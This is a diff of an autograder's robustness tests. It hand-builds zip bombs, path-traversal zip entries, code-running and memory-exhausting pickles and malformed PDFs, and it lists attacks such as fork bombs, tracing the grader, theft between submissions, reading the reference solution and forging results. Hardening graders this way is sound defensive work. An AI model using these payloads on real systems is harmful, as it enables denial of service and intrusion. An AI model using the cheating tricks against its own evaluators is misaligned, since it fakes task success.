+
+
+def by_hand(*entries):
+    """A zip of (name, packed(...)) or (name, packed(...), flags), written out, with whatever is in them."""
+
+    def content(token):
+        body, table = b"", b""
+        for name, (method, data, size, checksum), *flags in entries:
+            name = name.replace(b"@TOKEN@", token.encode())
+            common = struct.pack(
+                "<HHHHHIIIHH", 20, flags[0] if flags else 0, method, 0, 33, checksum, len(data), size, len(name), 0
+            )
+            table += b"PK\1\2\24\0" + common + struct.pack("<HHHII", 0, 0, 0, 0, len(body)) + name
+            body += b"PK\3\4" + common + name + data
+        end = struct.pack("<HHHHIIH", 0, 0, len(entries), len(entries), len(table), len(body), 0)
+        return body + table + b"PK\5\6" + end
+
+    def write(folder, neighbour, token):
+        (folder.parent / "attacker.zip").write_bytes(content(token))
+        return folder.parent / "attacker.zip"
+
+    write.content = content
+    return write
+
+
+def nest(depth):
+    """Zips in one another, three in each."""
+    inner = by_hand((b"assignment2.py", packed(FAIL.encode()))).content("")
+    for _ in range(depth):
+        inner = by_hand(*((b"%d.zip" % k, packed(inner)) for k in range(3))).content("")
+    return inner
+
+
+WRONG, NOTHING = packed(FAIL.encode()), packed(b"")
+LARGE, ZEROS = packed(bytes(19 << 20)), packed(bytes(21 << 20))  # up to the limit, and above
 BESIDE = [("assignment2.pkl", good_pickle()), ("assignment2.pdf", good_pdf())]
 LEADS_OUT = zipped(
     lambda token, neighbour: [
@@ -846,74 +1596,195 @@ LEADS_OUT = zipped(
         ("link/assignment2.py", "x"),
         ("device", "", 0o020666),
         ("setuid.py", "x", 0o104777),
-        *((f"../{k}", "x") for k in range(3000)),
+        *((f"../{k}", "x") for k in range(2100)),
     ]
 )
-BOMB = zipped(
-    lambda token, neighbour: [
-        ("assignment2.py", FAIL),
-        *BESIDE,
-        *((f"{k}.txt", bytes(30 << 20)) for k in range(6)),
-        ("utils.py", b"#" * (21 << 20)),
-    ]
+BOMB = by_hand(
+    (b"assignment2.py", WRONG),
+    (b"utils.py", ZEROS),
+    *((b"%d.txt" % k, LARGE) for k in range(12)),
+)
+MANY_TOO_LARGE = by_hand((b"assignment2.py", WRONG), *((b"%d.txt" % k, ZEROS) for k in range(500)))
+ODD_ENTRIES = by_hand(
+    (b"assignment2.py", WRONG),
+    (b"assignment2.py", packed(SOURCES["handout"].encode()[:-9])),  # the same name twice
+    (b"ASSIGNMENT2.PY", WRONG),
+    (b"assignment2.py/", NOTHING),
+    (b"assignment2.py/x.py", NOTHING),
+    (b"\xff\xfe.txt", NOTHING),
+    (b"", NOTHING),
+    (b"/", NOTHING),
+    (b".", NOTHING),
+    (b"con", NOTHING),
+    (b"nul.txt", NOTHING),
+    (b"a\0../../@TOKEN@", NOTHING),
+    (b"a" * 60_000, NOTHING),
+    (b"b/" * 20_000 + b"x", NOTHING),
+    (b"\\\\host\\share\\@TOKEN@", NOTHING),
+    (b"d:@TOKEN@", NOTHING),
+    (b"~/@TOKEN@", NOTHING),
+    (b"x\n\x1b[2J\xe2\x80\xae", NOTHING),
+)
+NO_TEXT = by_hand((b"assignment2.py", WRONG), (b"\xff\xfe.txt", NOTHING, 0x800))  # said to be UTF-8
+DAMAGED = by_hand(
+    (b"assignment2.py", WRONG),
+    (b"a", (8, b"\xff" * 99, 99, 0)),
+    (b"b", (8, ZEROS[1], 10, 0)),  # smaller than it says
+    (b"c", (8, WRONG[1], 4 << 29, 0)),
+    (b"d", WRONG, 1),  # encrypted
+    *((b"method %d" % method, (method, b"\xff" * 99, 99, 0)) for method in (1, 6, 9, 12, 14, 93, 99)),
+    *((b"e", WRONG) for _ in range(500)),
 )
 
 ATTACKS = [
-    Attack("replies forged on the channel", FORGED),
-    Attack("malformed replies", MALFORMED),
-    Attack("a nest of tuples", NESTED),
-    Attack("long error messages", LONG_WORDS),
-    Attack("a forged failure", FAILED_WORDS),
+    Attack("replies forged on the channel", FORGED, only=(*CODE, "Q5.1")),
+    Attack("malformed replies", MALFORMED, only=FEW),
+    Attack("a nest of tuples", NESTED, only=FEW),
+    Attack("long error messages", LONG_WORDS, only=FEW),
+    Attack("a forged failure", FAILED_WORDS, only=FEW),
     Attack("replies that fill the grader's memory", HEAVY_WORDS),
     Attack("one endless line", FLOOD),
-    Attack("asks the stand-ins for every answer", ORACLE),
-    Attack("functions found by gc and sys.modules", FUNCTIONS_ANYWHERE),
-    Attack("imports the reference", MODULES, where=OTHER),
-    Attack("reads the reference's file", REFERENCE_FILE, where=CELLS),
-    Attack("expected values in frames and gc", FRAME_VALUES),
+    Attack("asks the stand-ins for every answer", ORACLE, only=(*CODE, "Q5.1")),
+    Attack("functions found by gc and sys.modules", FUNCTIONS_ANYWHERE, only=FEW),
+    Attack("imports the reference", MODULES, where=ALL),
+    Attack("reads the reference's file", REFERENCE_FILE, where=ALL),
+    Attack("expected values in frames and gc", FRAME_VALUES, only=FEW),
     Attack("the inputs' seed", SEEDS, where=OTHER),
-    Attack("numpy patched", PATCHED),
-    Attack("subclass of ndarray", SUBCLASS, FILES_POINTS + 5),  # for the number of values, which is right
-    Attack("object that agrees", AGREEING),
-    Attack("inputs changed", MUTATED_INPUTS, FILES_POINTS + 6),  # the same, and for gradients that are finite
-    Attack("child.py patched", TRACED),
+    Attack("numpy patched", PATCHED, only=CODE),
+    Attack("subclass of ndarray", SUBCLASS, only=(*CODE, "Q5.1"), most=5),  # for the number of values, which is right
+    Attack("object that agrees", AGREEING, only=FEW),
+    Attack("inputs changed", MUTATED_INPUTS, only=CODE, most=3),  # and for gradients that are finite
+    Attack("child.py patched", TRACED, only=FEW),
+    Attack("numbers that no float holds", BEYOND_FLOATS, only=STAND_INS),
+    Attack("forged words about the module", LOADED_WORDS),
+    Attack("two processes answer", TWO_PROCESSES, where=PROCESS, only=STAND_INS),
+    Attack("a thread answers", THREAD_ANSWERS, only=FEW),
+    Attack("half a message", HALF_A_MESSAGE),
+    Attack("asks and never reads", NEVER_READS, only=STAND_INS, patience=SHORT),
+    Attack("descriptors and urgent bytes on the channel", ODD_PACKETS, where=OTHER),
+    Attack("changes the calls to come", OTHER_CALLS, only=FEW),
+    Attack("hides that it changed the inputs", HIDDEN_CHANGE, only=("Q4",), most=9),
+    Attack("words that turn the text round", TURNED_WORDS, only=FEW),
+    Attack("errors that fight back", FIGHTING_ERRORS, only=FEW),
+    Attack("names that are no names", NO_NAMES),
+    Attack("a module with any name", ANY_NAME),
+    Attack("a hundred thousand names", MANY_NAMES),
+    Attack("values without end", ENDLESS_VALUES, patience=SHORT),
+    Attack("values of every kind", ODD_VALUES),
+    Attack("hooks in the interpreter", HOOKS),
     Attack("results.json and os._exit", RESULTS, where=OTHER),
     Attack("writes at exit", AT_EXIT, where=OTHER),
-    Attack("sys.exit on import", EXIT_ON_IMPORT),
-    Attack("kills itself", KILLED),
-    Attack("stops itself", STOPPED),
+    Attack("sys.exit on import", EXIT_ON_IMPORT, only=FEW),
+    Attack("kills itself", KILLED, only=FEW),
+    Attack("stops itself", STOPPED, patience=SHORT),
     Attack("segmentation fault", SEGFAULT),
     Attack("stack overflow", STACK),
     Attack("code too deep to parse", PARSER),
-    Attack("endless loop", ENDLESS, where=PROCESS),
-    Attack("sleeps to the limit", SLEEPS),
-    Attack("ignores every signal", DEAF, where=PROCESS),
-    Attack("memory bomb", MEMORY),
-    Attack("fork bomb", FORKS, where=CELLS),
+    Attack("statements without number", MANY_STATEMENTS, patience=SHORT),
+    Attack("brackets that never close", UNCLOSED, patience=SHORT),
+    Attack("lines that take long to read", BLANKS, patience=SHORT),
+    Attack("endless loop", ENDLESS, where=PROCESS, patience=SHORT),
+    Attack("endless import without the clock", NO_CLOCK, where=PROCESS, patience=SHORT),
+    Attack("sleeps to the limit", SLEEPS, patience=SHORT),
+    Attack("ignores every signal", DEAF, where=PROCESS, patience=SHORT),
+    Attack("memory bomb", MEMORY, only=FEW),
+    Attack("memory in files without a name", HOLDS_MEMFD, where=ALL, patience=0.2),
+    Attack("memory that nobody holds", HOLDS_NOWHERE, where=OTHER, patience=0.2, cgroup=True),
+    Attack("memory in many processes", HOLDS_IN_FORKS, where=ALL, patience=0.2),
+    Attack("fork bomb", FORKS, where=CELLS, patience=SHORT),
+    Attack("runs away by forks", RUNS_AWAY, where=CELLS, patience=SHORT),
     Attack("grandchildren in sessions of their own", GRANDCHILD, where=ALL),
-    Attack("threads left running", THREAD, where=PROCESS),
-    Attack("endless output", PRINTS),
+    Attack("grandchildren adopted", ADOPTS, where=ALL),
+    Attack("threads left running", THREAD, where=PROCESS, patience=SHORT),
+    Attack("endless output", PRINTS, patience=SHORT),
     Attack("fills the disk", FILLS_DISK, where=OTHER),
+    Attack("fills it with files", MANY_FILES, where=("root", "nobody")),
     Attack("a very deep folder", DEEP_FOLDERS, where=ALL),
     Attack("folders closed to all", CLOSED_FOLDERS, where=CELLS),
-    Attack("writes into other submissions", OTHERS, where=CELLS),
+    Attack("writes into other submissions", OTHERS, where=ALL),
+    Attack("poisons what others read", POISONS, where=ALL),
+    Attack("steals from a neighbour at work", THEFT, where=("user", "nobody", "process"), beside=True),
+    Attack("remembers from task to task", REMEMBERS, where=ALL, only=STAND_INS),
+    Attack("leaves files where it can", LEAVES, where=ALL),
+    Attack("leaves a queue of messages", QUEUE, where=CELLS),
+    Attack("leaves a key in the kernel", KEYRING, where=OTHER, only=STAND_INS),
+    Attack("looks at what it was born with", BORN_WITH, where=ALL),
     Attack("changes permissions", PERMISSIONS, where=CELLS),
-    Attack("signals to the grader", SIGNALS, where=CELLS),
-    Attack("traces the grader", TRACES, where=CELLS),
+    Attack("signals to the grader", SIGNALS, where=ALL),
+    Attack("signals on behalf of a socket", SIGIO, where=ALL),
+    Attack("slows the grader", SLOWS, where=CELLS),
+    Attack("traces the grader", TRACES, where=ALL),
     Attack("closes descriptors", CLOSES),
     Attack("writes to every descriptor", TAKES_DESCRIPTORS, where=OTHER),
     Attack("raises its limits", RAISES_LIMITS, where=OTHER),
     Attack("environment and modules", ENVIRONMENT, where=OTHER),
-    Attack("connects to this machine", NETWORK, where=("root", "nobody")),
+    Attack("connects to this machine", NETWORK, where=ALL),
     Attack("shared memory", SHARED_MEMORY, where=CELLS),
-    Attack("a pickle that runs code", FAIL, FILES_POINTS - 10, OTHER, prepare=pickle_that_runs),
-    Attack("a pickle that grows", FAIL, FILES_POINTS - 10, prepare=pickle_that_grows),
-    Attack("links to another submission", FAIL, 0, prepare=links),
-    Attack("sparse files of 50 gigabytes", FAIL, 0, prepare=huge),
-    Attack("pipes for files", FAIL, 0, prepare=pipes),
+    Attack("a pickle that runs code", FAIL, OTHER, PKL, prepare=pickle_that_runs),
+    Attack("a pickle that grows", FAIL, only=PKL, prepare=pickle_that_grows),
+    Attack("a pickle with two billion memos", FAIL, only=PKL, prepare=pkl(b"\x80\x04}r\xff\xff\xff\x7f.")),
+    Attack("a pickle of marks", FAIL, only=PKL, prepare=pkl(b"\x80\x04" + b"(" * (15 << 20) + b".")),
+    Attack("a pickle that holds itself", FAIL, only=PKL, most=3, prepare=pkl(endless_dict())),
+    Attack("a pickle of one large number", FAIL, only=PKL, most=3, prepare=pkl(ONE_LARGE), patience=SHORT),
+    Attack("an archive of lying arrays", FAIL, only=PKL, prepare=pkl(BAD_ARCHIVE)),
+    Attack("links to another submission", FAIL, only=("Q1.1", "Q5.2"), prepare=links),
+    Attack("sparse files of a terabyte", FAIL, only=("Q1.1", "Q5.2"), prepare=huge),
+    Attack("pipes for files", FAIL, only=("Q1.1", "Q5.2"), prepare=pipes),
+    Attack("a pipe for the submission", FAIL, prepare=pipe),
     Attack("links and folders without end", FAIL, prepare=crowd),
-    Attack("modules in place of numpy's", FAIL, prepare=shadows),
-    Attack("a PDF that grows", FAIL, prepare=pdf_that_grows),
-    Attack("a zip that leads out", FAIL, zipped=LEADS_OUT),
-    Attack("a zip bomb", FAIL, zipped=BOMB),
+    Attack("folders for files", FAIL, only=("Q1.1", "Q5.2"), prepare=folders),
+    Attack("folders for the grader's files", FAIL, prepare=planted),
+    Attack("a hundred thousand bytes of names", FAIL, prepare=long_paths),
+    Attack("names that are no text", FAIL, prepare=odd_names),
+    Attack("files that change while they are read", FAIL, only=("Q1.1", "Q5.2"), most=10, prepare=changes),
+    Attack("modules in place of numpy's", FAIL, only=("Q1.1", "Q2", "Q5.2"), most=10, prepare=shadows),
+    Attack("a notebook without a bottom", FAIL, prepare=code("a.ipynb", b'{"cells": ' + b"[" * 900_000)),
+    Attack("a notebook of odd cells", FAIL, prepare=code("a.ipynb", notebook([1e300, None, ["x"], {}] * 100_000))),
+    Attack("a notebook that is no text", FAIL, prepare=code("a.ipynb", notebook("\ud800" * 99))),
+    Attack("a PDF that grows", FAIL, only=PDF, prepare=pdf_that_grows, patience=SHORT),
+    Attack("a PDF whose pages hold themselves", FAIL, only=PDF, prepare=pdf(b"<< /Type /Pages /Kids [2 0 R 3 0 R] >>")),
+    Attack("a PDF of a billion pages", FAIL, only=PDF, prepare=pdf(b"<< /Type /Pages /Count 1000000000 /Kids [] >>")),
+    Attack("a PDF of brackets", FAIL, only=PDF, prepare=pdf(b"[" * 1_000_000), patience=SHORT),
+    Attack(
+        "a PDF with an endless font",
+        FAIL,
+        only=PDF,
+        patience=SHORT,
+        prepare=pdf(PAGE, stream(b"BT /F 9 Tf <0001> Tj ET"), FONT, b"null", stream(RANGES)),
+    ),
+    Attack(
+        "a PDF whose forms draw themselves",
+        FAIL,
+        only=PDF,
+        patience=SHORT,
+        prepare=pdf(PAGE, stream(b"/X Do " * 100_000), FONT, FORM, b"null"),
+    ),
+    Attack(
+        "a PDF of wide rows",
+        FAIL,
+        only=PDF,
+        patience=SHORT,
+        prepare=pdf(PAGE, stream(b"x" * 99, b"/DecodeParms << /Predictor 12 /Columns 1000000000 >>")),
+    ),
+    Attack(
+        "a PDF with a billion objects",
+        FAIL,
+        only=PDF,
+        patience=SHORT,
+        prepare=pdf(stream(bytes(99), b"/Type /XRef /Root 1 0 R /Size 1000000000 /Index [0 1000000000] /W [0 0 0]")),
+    ),
+    Attack(
+        "a PDF that begins before itself",
+        FAIL,
+        only=PDF,
+        patience=SHORT,
+        prepare=pdf(PAGE, b"<< /Length 4 0 R >>\nstream\nx\nendstream", trailer=b"<< /Root 1 0 R /Size 9 /Prev 9 >>"),
+    ),
+    Attack("a zip that leads out", FAIL, prepare=LEADS_OUT),
+    Attack("a zip bomb", FAIL, prepare=BOMB),
+    Attack("a zip of files that are too large", FAIL, prepare=MANY_TOO_LARGE),
+    Attack("a zip of zips of zips", FAIL, prepare=by_hand((b"a.zip", packed(nest(5))))),
+    Attack("a zip of odd names", FAIL, prepare=ODD_ENTRIES),
+    Attack("a zip whose names are no text", FAIL, prepare=NO_TEXT),
+    Attack("a zip that lies about its files", FAIL, prepare=DAMAGED),
 ]
